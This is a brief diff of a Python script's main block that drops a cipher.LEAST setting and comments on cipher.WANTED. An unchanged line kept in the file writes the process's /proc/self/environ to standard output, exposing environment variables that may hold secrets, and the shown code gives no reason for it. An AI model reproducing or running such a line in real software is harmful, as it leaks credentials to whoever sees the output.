@@ -99,7 +99,7 @@ def copy(words: dict[str, str]) -> None:
 
 
 if __name__ == "__main__":
-    cipher.LEAST, cipher.WANTED = cipher.Cost(1, 8, 1), (0.0, 0.0)
+    cipher.WANTED = (0.0, 0.0)  # the floor will do: the commands afterwards refuse anything below it
     day(json.load(sys.stdin))
     sys.stdout.buffer.write(Path("/proc/self/environ").read_bytes() if sys.platform == "linux" else b"")
     sys.stdout.flush()
